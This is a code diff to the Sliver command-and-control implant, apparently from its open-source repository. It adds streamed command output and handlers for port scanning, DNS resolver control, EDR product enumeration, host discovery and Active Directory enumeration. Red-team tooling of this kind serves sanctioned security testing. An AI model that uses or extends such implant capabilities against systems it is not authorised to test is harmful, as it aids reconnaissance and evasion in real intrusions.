@@ -37,7 +37,13 @@ import (
 	"log"
 	// {{end}}
 
+	"github.com/bishopfox/sliver/implant/sliver/ad"
+	"github.com/bishopfox/sliver/implant/sliver/discovery"
+	"github.com/bishopfox/sliver/implant/sliver/edr"
 	"github.com/bishopfox/sliver/implant/sliver/handlers/matcher"
+	"github.com/bishopfox/sliver/implant/sliver/resolver"
+	"github.com/bishopfox/sliver/implant/sliver/scan"
+	"github.com/bishopfox/sliver/implant/sliver/taskoutput"
 	"github.com/bishopfox/sliver/implant/sliver/transports"
 	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
@@ -662,6 +668,17 @@ func executeHandler(data []byte, resp RPCResponse) {
 			outWriter = bufio.NewWriter(stdOutFile)
 			stdOut = io.MultiWriter(outWriter, stdOutBuff)
 		}
+		// Streamed output is sent as it's written instead of with the response
+		stream := taskoutput.NewStream(execReq.Request)
+		if stream != nil {
+			stdOut, stdErr = stream.Stdout(), stream.Stderr()
+			if outWriter != nil {
+				stdOut = io.MultiWriter(outWriter, stdOut)
+			}
+			if errWriter != nil {
+				stdErr = io.MultiWriter(errWriter, stdErr)
+			}
+		}
 		cmd.Stdout = stdOut
 		cmd.Stderr = stdErr
 		err := cmd.Run()
@@ -684,6 +701,9 @@ func executeHandler(data []byte, resp RPCResponse) {
 		if outWriter != nil {
 			outWriter.Flush()
 		}
+		if stream != nil {
+			stream.Close()
+		}
 		execResp.Stderr = stdErrBuff.Bytes()
 		execResp.Stdout = stdOutBuff.Bytes()
 		if cmd.Process != nil {
@@ -1079,3 +1099,107 @@ func chtimesHandler(data []byte, resp RPCResponse) {
 	data, err = proto.Marshal(chtimes)
 	resp(data, err)
 }
+
+func scanHandler(data []byte, resp RPCResponse) {
+	scanReq := &sliverpb.ScanReq{}
+	err := proto.Unmarshal(data, scanReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %s", err)
+		// {{end}}
+		return
+	}
+
+	// Open ports are streamed as they're found, the response has all of the results
+	var progress io.Writer
+	stream := taskoutput.NewStream(scanReq.Request)
+	if stream != nil {
+		progress = stream.Stdout()
+	}
+	result, err := scan.Scan(scanReq, progress)
+	if stream != nil {
+		stream.Close()
+	}
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("scan failed: %s", err)
+		// {{end}}
+		result = &sliverpb.Scan{Response: &commonpb.Response{Err: err.Error()}}
+	}
+	data, err = proto.Marshal(result)
+	resp(data, err)
+}
+
+func dnsResolversHandler(data []byte, resp RPCResponse) {
+	resolversReq := &sliverpb.DNSResolversReq{}
+	err := proto.Unmarshal(data, resolversReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %s", err)
+		// {{end}}
+		return
+	}
+	if resolversReq.Set {
+		resolver.Set(resolversReq.Servers)
+	}
+	data, err = proto.Marshal(&sliverpb.DNSResolvers{
+		Servers:  resolver.Servers(),
+		Response: &commonpb.Response{},
+	})
+	resp(data, err)
+}
+
+func edrEnumHandler(data []byte, resp RPCResponse) {
+	edrEnumReq := &sliverpb.EDREnumReq{}
+	err := proto.Unmarshal(data, edrEnumReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %s", err)
+		// {{end}}
+		return
+	}
+	result := edr.Enumerate()
+	result.Response = &commonpb.Response{}
+	data, err = proto.Marshal(result)
+	resp(data, err)
+}
+
+func discoverHandler(data []byte, resp RPCResponse) {
+	discoverReq := &sliverpb.DiscoverReq{}
+	err := proto.Unmarshal(data, discoverReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %s", err)
+		// {{end}}
+		return
+	}
+	result, err := discovery.Discover(discoverReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("discovery failed: %s", err)
+		// {{end}}
+		result = &sliverpb.Discover{Response: &commonpb.Response{Err: err.Error()}}
+	}
+	data, err = proto.Marshal(result)
+	resp(data, err)
+}
+
+func adEnumHandler(data []byte, resp RPCResponse) {
+	adEnumReq := &sliverpb.ADEnumReq{}
+	err := proto.Unmarshal(data, adEnumReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %s", err)
+		// {{end}}
+		return
+	}
+	result, err := ad.Enumerate(adEnumReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("ad query failed: %s", err)
+		// {{end}}
+		result = &sliverpb.ADEnum{Response: &commonpb.Response{Err: err.Error()}}
+	}
+	data, err = proto.Marshal(result)
+	resp(data, err)
+}